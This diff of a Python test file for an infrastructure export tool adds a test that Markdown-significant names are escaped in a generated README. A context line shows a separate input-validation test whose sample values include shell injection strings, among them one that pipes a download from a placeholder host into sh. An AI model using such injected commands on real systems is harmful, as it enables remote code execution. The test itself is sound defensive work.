@@ -69,6 +69,23 @@ def test_export_readme_and_messages_escape_names(
     assert "@admin" not in readme  # no mention: a zero-width space follows the @
 
 
+def test_a_name_that_starts_a_list_item_opens_no_block(tmp_path: Path) -> None:
+    # The export README lists offers as `- {name}: ...` and grants as `  - {display name} (group) has ...`.
+    text = BASELINE.replace("name: Fabrikam Managed Operations", 'name: "# Owned offer"')
+    project = make_project(tmp_path, text)
+    directory = (project / "Pulumi.yaml").read_text()
+    assert "displayName: Fabrikam Lighthouse Readers" in directory
+    (project / "Pulumi.yaml").write_text(
+        directory.replace("displayName: Fabrikam Lighthouse Readers", 'displayName: "1. Numbered"', 1)
+    )
+    assert main(["-C", str(project), "export", STACK, "-o", str(tmp_path / "out")]) == 0
+    lines = (tmp_path / "out" / "README.md").read_text().splitlines()
+    offers = [line for line in lines if "Owned offer" in line]
+    grants = [line for line in lines if "Numbered" in line]
+    assert offers and all(line.startswith("- \\# Owned offer") for line in offers), offers
+    assert grants and all(line.startswith("  - 1\\. Numbered (group)") for line in grants), grants
+
+
 def test_export_location_is_a_region_name_only(hostile: Path, tmp_path: Path) -> None:
     for location in ["westeurope; curl e.example | sh", "$(id)", "West Europe", "west-europe", ""]:
         assert (
